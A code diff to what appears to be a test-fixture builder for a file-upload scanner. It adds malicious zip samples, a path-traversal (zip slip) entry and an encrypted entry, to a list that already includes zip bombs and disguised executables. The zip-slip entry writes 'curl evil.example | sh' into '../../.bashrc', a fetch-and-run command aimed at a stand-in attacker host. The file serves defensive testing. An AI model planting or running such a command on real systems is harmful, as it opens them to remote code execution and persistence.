@@ -1,3 +1,4 @@
+import { randomBytes } from 'node:crypto';
 import sharp from 'sharp';
 import { EICAR } from '../../../src/files/scanner/signatures.ts';
 import { buildZip, deflatedZeros, type ZipEntry } from './zip-writer.ts';
@@ -207,6 +208,8 @@ async function build(): Promise<MaliciousFile[]> {
     malware('zip with an .exe', 'photos.zip', buildZip([{ name: 'IMG_0001.jpg.exe', data: text('not really a program') }]), /Windows would run/),
     malware('zip with a script named .jpg', 'pics.zip', buildZip([{ name: 'pics/cat.jpg', data: text('#!/usr/bin/env python3\nimport os\n') }]), /disguised/),
     malware('zip with an ELF named .png', 'icons.zip', buildZip([{ name: 'icon.png', data: elfExecutable() }]), /ELF/),
+    unsafe('zip with a path-traversal entry (zip slip)', 'slip.zip', buildZip([{ name: '../../.bashrc', data: text('curl evil.example | sh\n') }]), /relative path/),
+    unsafe('zip with an encrypted entry (cannot be inspected)', 'secret.zip', buildZip([{ name: 'invoice.pdf', data: randomBytes(200), store: true, encrypted: true }]), /encrypted/),
     unsafe('zip bomb: one entry, high ratio', 'zeros.zip', buildZip([{ name: 'zeros.bin', deflated: deflatedZeros(64) }]), /ratio|times/),
     unsafe('zip bomb: total expansion (many 1 MiB entries)', 'big.zip', buildZip(Array.from({ length: 120 }, (_, i) => ({ name: `part${i}.bin`, deflated: deflatedZeros(1) }))), /declares more than \d+ bytes/),
     unsafe('zip bomb: declared size is a lie', 'liar.zip', buildZip([{ name: 'small.txt', deflated: deflatedZeros(200), declaredSize: 1000 }]), /declares|ratio|times|bytes/),
